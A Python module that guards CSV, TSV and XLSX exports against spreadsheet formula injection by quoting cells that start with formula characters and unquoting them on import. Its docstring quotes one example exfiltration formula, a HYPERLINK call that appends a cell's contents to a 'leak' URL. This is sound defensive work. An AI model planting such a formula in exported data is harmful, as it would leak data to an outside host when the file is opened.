"""Cells a spreadsheet would run as a formula, neutralised on the way out, restored on the way in.

A pseudonym or note such as ``=HYPERLINK("http://…?leak="&A2)`` or ``-2+3`` typed into a
coding would be run by Excel or LibreOffice when a CSV, TSV or XLSX export is opened. So,
the OWASP way, a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is written with a ``'`` in front, which spreadsheets show as text. A cell that
starts with ``'`` followed by what would itself be neutralised gets one more ``'``, so
reading takes exactly one ``'`` back off and "-Sam" comes back as "-Sam" whatever it was.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def needs_quote(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (or it starts like a quoted one)."""
    while text.startswith(QUOTE):
        text = text[1:]
    return text.startswith(FORMULA_STARTS)


def neutralised(text: str) -> str:
    """``text`` as written into a cell: quoted when a spreadsheet could run it."""
    return QUOTE + text if needs_quote(text) else text


def restored(cell: str) -> str:
    """A cell as read back: the quote :func:`neutralised` added taken off, nothing else."""
    return cell[1:] if cell.startswith(QUOTE) and needs_quote(cell[1:]) else cell


def neutralised_row(cells: Iterable[Any]) -> list[Any]:
    """A row of cells, each text cell neutralised (numbers stay numbers)."""
    return [neutralised(c) if isinstance(c, str) else c for c in cells]
